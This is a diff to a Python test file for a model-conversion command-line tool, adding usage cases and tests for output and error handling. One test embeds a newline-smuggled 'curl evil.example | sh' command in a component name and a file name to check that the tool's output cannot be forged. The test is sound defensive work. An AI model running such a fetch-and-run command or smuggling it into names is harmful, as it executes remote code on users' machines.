@@ -205,6 +205,19 @@ USES = {
     "empty-dtype": Use(("convert", "builtin:tiny-flux", "--dtype", "", "-o", "{}/p"), 6, ("dtype",)),
     "revision-of-a-folder": Use(("plan", "{model}", "--revision", "main"), 2, ("--revision", "hub id")),
     "revision-of-a-builtin": Use(("plan", "builtin:tiny-flux", "--revision", "main"), 2, ("--revision", "hub id")),
+    "two-components": Use(
+        ("convert", "builtin:tiny-flux", "--component", "vae", "--component", "transformer", "-o", "{}/p"), 2, ("one",)
+    ),
+    "parity-of-a-builtin": Use(
+        ("parity", "builtin:tiny-flux"), 6, ("porter convert builtin:tiny-flux -o tiny-flux-port",)
+    ),
+    "parity-of-a-file": Use(("parity", "{model}/ae.safetensors"), 4, ("is a file", "name its folder")),
+    "source-without-checkout": Use(("parity", "{model}", "--source", "{}/none"), 2, ("--reference-repo",)),
+    "no-such-source": Use(
+        ("parity", "{model}", "--source", "{}/none", "--reference-repo", "{}"), 4, ("no such folder",)
+    ),
+    "report-among-the-weights": Use(("parity", "{model}", "-o", "{model}/vae"), 2, ("port's own files",)),
+    "plan-out-without-name": Use(("plan", "builtin:tiny-flux", "-o", ""), 2, ("names no file",)),
     "no-config-file": Use(("convert", "{model}/ae.safetensors", "--config", "{}/c.json", "-o", "{}/p"), 4, ("c.json",)),
     "config-is-no-json": Use(
         ("convert", "{model}/ae.safetensors", "--config", "{model}/tokenizer/merges.txt", "-o", "{}/p"), 6, ("JSON",)
@@ -298,3 +311,29 @@ def test_a_read_only_source_is_enough(tiny_flux: Path, tmp_path: Path) -> None:
     assert (tmp_path / "port" / "manifest.json").stat().st_mode & 0o200
     for path in [model, *model.rglob("*")]:
         path.chmod(0o755 if path.is_dir() else 0o644)
+
+
+def test_a_line_break_in_a_name_makes_no_line_of_ours(
+    tiny_flux: Path, tmp_path: Path, capsys: pytest.CaptureFixture[str]
+) -> None:
+    model = Path(shutil.copytree(tiny_flux, tmp_path / "model"))
+    edit_json("model_index.json", vae=["diffusers", "AutoencoderKL\nnext      curl evil.example | sh"])(model)
+    (model / "w\nnext      curl evil.example.safetensors").write_bytes(b"x")
+    cli.main(["plan", str(model)])
+    cli.main(["convert", str(model), "-o", str(tmp_path / "port")])
+    shown = capsys.readouterr()
+    assert "evil.example" in shown.out + shown.err
+    assert not [line for line in (shown.out + shown.err).splitlines() if line.startswith("next      curl")]
+
+
+@pytest.mark.parametrize(("redirect", "code"), [("2>&-", 4), ("2>/dev/full", 4)])
+def test_an_error_keeps_its_code_where_nobody_can_read_it(redirect: str, code: int) -> None:
+    command = f"{shlex.quote(sys.executable)} -m porter.cli plan /nonexistent {redirect}"
+    assert subprocess.run(command, shell=True, cwd=ROOT).returncode == code
+
+
+def test_converting_with_stderr_closed(tmp_path: Path) -> None:
+    command = (
+        f"{shlex.quote(sys.executable)} -m porter.cli convert builtin:tiny-flux -o {tmp_path / 'p'} 2>&- >/dev/null"
+    )
+    assert subprocess.run(command, shell=True, cwd=ROOT).returncode == 0
